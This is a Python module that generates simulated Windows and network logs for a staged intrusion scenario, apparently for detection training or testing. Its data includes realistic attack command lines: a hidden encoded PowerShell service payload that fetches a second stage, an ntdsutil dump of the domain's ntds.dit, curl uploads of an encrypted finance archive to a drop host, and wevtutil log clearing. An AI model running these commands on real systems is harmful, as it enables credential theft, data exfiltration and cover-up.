"""The second half of the invoice scenario: from one workstation to the servers, and out with the data.

`invoice_attack.py` tells the first half and runs this one with the elevated shell that it has won.
"""

from __future__ import annotations

from sample_data.benign_desks import PS_AGENT
from sample_data.benign_servers import encoded
from sample_data.benign_services import replication
from sample_data.domain import (
    CMD,
    CRADLE,
    DC,
    DELIVERY,
    DROP,
    EVERYONE,
    FS1,
    HOSTS,
    MORE_ACCOUNTS,
    POWERSHELL,
    REYES,
    SID,
    SYSTEM,
    SYSTEM32,
    VICTIM,
    Host,
    Process,
    Session,
    process,
)
from sample_data.network import Network
from sample_data.record import Recorder
from sample_data.windows import Windows
from sample_data.world import MILLI, MINUTE, SECOND, Day, Dice


class Lateral:
    """Moves on from `high`, a shell with full rights on the first workstation."""

    def __init__(self, day: Day, recorder: Recorder, windows: Windows, network: Network, dice: Dice) -> None:
        self.day, self.step = day, recorder.step
        self.windows, self.network, self.dice = windows, network, dice
        self.reyes = {
            host: Session(REYES.account, REYES.sid, hex(0x7A0000 + index), "0", "High")
            for index, host in enumerate(HOSTS)
        }

    def run(self, high: Process) -> None:
        self.spray(high)
        self.reach_out(high)
        remote = self.file_server(high.host)
        self.domain_controller(high.host)
        self.carry_off(remote)

    def spray(self, high: Process) -> None:
        names = [person.name for person in EVERYONE if person is not VICTIM] + list(MORE_ACCOUNTS)
        time = self.day.at("09:50:04.100")
        with self.step("inv-12"):
            for index, name in enumerate(self.dice.some(names, 28)):
                self.windows.ticket(time, name, f"{SID}-{1300 + index}", high.host.ip, status="0x18")
                time += self.dice.between(6_000, 9_000) * MILLI

    def reach_out(self, high: Process) -> None:
        w, n, dice, day = self.windows, self.network, self.dice, self.day
        own = high.host
        with self.step("inv-13"):
            w.logon(
                day.at("10:06:40.880"),
                own,
                Session(high.session.account, high.session.sid, "0x31b0c4", "1", "High"),
                9,
                "::1",
                "Negotiate",
                elevated=True,
                outbound=REYES.name,
            )
        with self.step("inv-14"):
            time = day.at("10:08:02")
            for host in [one for one in HOSTS if one is not own]:
                n.connection(
                    time,
                    own.ip,
                    host.ip,
                    445,
                    dice.between(2_000, 6_000),
                    dice.between(2_000, 9_000),
                    dice.between(200, 900) * MILLI,
                    "gssapi,ntlm,smb",
                )
                w.validated(time + 20 * MILLI, REYES.name, own.name)
                w.logon(time + 30 * MILLI, host, self.reyes[host], 3, own.ip, "NTLM", own.name)
                w.share(time + 60 * MILLI, host, self.reyes[host], "ADMIN$", "\\??\\C:\\Windows", own.ip)
                time += dice.between(9_000, 15_000) * MILLI

    def file_server(self, own: Host) -> Process:
        w, n, day = self.windows, self.network, self.day
        session, start = self.reyes[FS1], day.at("10:15:30.500")
        with self.step("inv-13"):
            n.connection(
                start - 20 * MILLI,
                own.ip,
                FS1.ip,
                445,
                84_000,
                31_000,
                90 * SECOND,
                "gssapi,ntlm,smb,dce_rpc",
            )
            w.validated(start - 10 * MILLI, REYES.name, own.name)
            w.logon(start, FS1, session, 3, own.ip, "NTLM", own.name, elevated=True)
        with self.step("inv-15"):
            payload = "powershell.exe -nop -w hidden -enc " + encoded(CRADLE.replace("stage", "stage2"))
            w.by(
                day.at("10:17:04.040"),
                4697,
                (FS1, session),
                {
                    "ServiceName": "WinSyncSvc",
                    "ServiceFileName": f"%COMSPEC% /Q /c start /b {payload}",
                    "ServiceType": "0x10",
                    "ServiceStartType": "3",
                    "ServiceAccount": "LocalSystem",
                },
            )
            services = process(self.dice, FS1, SYSTEM32 + "services.exe", SYSTEM, day.start)
            shell = w.start(
                day.at("10:17:04.330"),
                services,
                CMD,
                f"C:\\Windows\\system32\\cmd.exe /Q /c start /b {payload}",
            )
            remote = w.start(day.at("10:17:04.520"), shell, POWERSHELL, payload)
            w.script(day.at("10:17:05.411"), remote, CRADLE.replace("stage", "stage2"))
            port = w.connect(day.at("10:17:05.720"), remote, DELIVERY[1], 80, DELIVERY[0])
            n.web(
                day.at("10:17:05.720"),
                FS1.ip,
                DELIVERY,
                "GET",
                "/a/stage2.txt",
                PS_AGENT,
                received=22_030,
                mime="text/plain",
                source_port=port,
            )
            return remote

    def domain_controller(self, own: Host) -> None:
        w, n, day = self.windows, self.network, self.day
        session, marker = self.reyes[DC], "1772534520.41"
        provider = process(
            self.dice,
            DC,
            SYSTEM32 + "wbem\\WmiPrvSE.exe",
            Session("NT AUTHORITY\\NETWORK SERVICE", "S-1-5-20", "0x3e4", "0", "System"),
            day.at("10:41"),
        )
        with self.step("inv-16"):
            n.connection(day.at("10:42:00.001"), own.ip, DC.ip, 135, 9_000, 7_000, 4 * SECOND, "dce_rpc")
            w.logon(day.at("10:42:00.100"), DC, session, 3, own.ip, "NTLM", own.name, elevated=True)
            for clock, command in (
                ("10:42:01", "whoami"),
                ("10:43:30", "cd \\"),
                ("10:44:12", "dir C:\\Windows\\NTDS"),
                ("10:45:40", "net user adm.reyes /domain"),
            ):
                w.start(
                    day.at(clock) + self.dice.upto(900) * MILLI,
                    provider,
                    CMD,
                    f"cmd.exe /Q /c {command} 1> \\\\127.0.0.1\\ADMIN$\\__{marker} 2>&1",
                    session,
                )
        with self.step("inv-17"):
            line = 'ntdsutil "ac i ntds" "ifm" "create full C:\\Windows\\Temp\\snap" q q'
            shell = w.start(
                day.at("10:47:10.044"),
                provider,
                CMD,
                f"cmd.exe /Q /c {line} 1> \\\\127.0.0.1\\ADMIN$\\__{marker} 2>&1",
                session,
            )
            tool = w.start(day.at("10:47:10.300"), shell, SYSTEM32 + "ntdsutil.exe", line)
            w.file(day.at("10:47:31.700"), tool, "C:\\Windows\\Temp\\snap\\Active Directory\\ntds.dit")
        with self.step("inv-18"):
            from_own = day.at("10:55:20.150")
            n.connection(from_own, own.ip, DC.ip, 49670, 31_000, 2_400_000, 7 * SECOND, "dce_rpc")
            for index, part in enumerate(
                ("1131f6aa-9c07-11d1-f79f-00c04fc2dcd2", "1131f6ad-9c07-11d1-f79f-00c04fc2dcd2") * 3
            ):
                w.by(
                    from_own + index * 70 * MILLI,
                    4662,
                    (DC, session),
                    replication(
                        f"%%7688\r\n\t\t{{{part}}}\r\n\t{{19195a5b-6da0-11d0-afd3-00c04fd930c9}}\r\n"
                    ),
                )

    def carry_off(self, remote: Process) -> None:
        w, n, day = self.windows, self.network, self.day
        with self.step("inv-19"):
            w.file(day.at("11:19:50.020"), remote, "C:\\Users\\Public\\7za.exe")
            packer = w.start(
                day.at("11:20:09.300"),
                remote,
                "C:\\Users\\Public\\7za.exe",
                "C:\\Users\\Public\\7za.exe a -t7z -mhe=on -pKq7-vault-31 -v500m C:\\Users\\Public\\q1.7z "
                "D:\\Finance",
            )
            for index in range(1, 5):
                w.file(
                    day.at("11:20:12") + index * 140 * SECOND, packer, f"C:\\Users\\Public\\q1.7z.{index:03d}"
                )
        with self.step("inv-20"):
            time = day.at("12:10:05.400")
            for index, size in enumerate((524_288_000, 524_288_000, 524_288_000, 371_409_216), 1):
                n.lookup(time - 200 * MILLI, FS1.ip, *DROP)
                tool = w.start(
                    time - 300 * MILLI,
                    remote,
                    SYSTEM32 + "curl.exe",
                    f"curl.exe -k -T C:\\Users\\Public\\q1.7z.{index:03d} https://{DROP[0]}/u/",
                )
                port = w.connect(time, tool, DROP[1], 443, DROP[0])
                n.connection(
                    time,
                    FS1.ip,
                    DROP[1],
                    443,
                    size + 60_000,
                    9_000 + 100 * index,
                    210 * SECOND,
                    "ssl",
                    source_port=port,
                )
                n.eve(
                    time + 40 * MILLI,
                    "tls",
                    (FS1.ip, port),
                    (DROP[1], 443),
                    {"tls": {"sni": DROP[0], "version": "TLS 1.2"}},
                )
                n.alert(
                    time + 190 * SECOND,
                    (FS1.ip, port),
                    (DROP[1], 443),
                    1000103,
                    "LOCAL outbound TLS upload above 300 MB",
                    "Potential Corporate Privacy Violation",
                    1,
                    "tls",
                )
                time += 4 * MINUTE + self.dice.upto(SECOND)
        with self.step("inv-21"):
            for clock, log in (("12:40:11.100", "System"), ("12:40:13.900", "Security")):
                w.start(
                    day.at(clock),
                    remote,
                    SYSTEM32 + "wevtutil.exe",
                    f'"C:\\Windows\\system32\\wevtutil.exe" cl {log}',
                )
            w.security(
                day.at("12:40:14.220"),
                FS1,
                1102,
                {
                    "SubjectUserSid": "S-1-5-18",
                    "SubjectUserName": "SYSTEM",
                    "SubjectDomainName": "NT AUTHORITY",
                    "SubjectLogonId": "0x3e7",
                },
            )
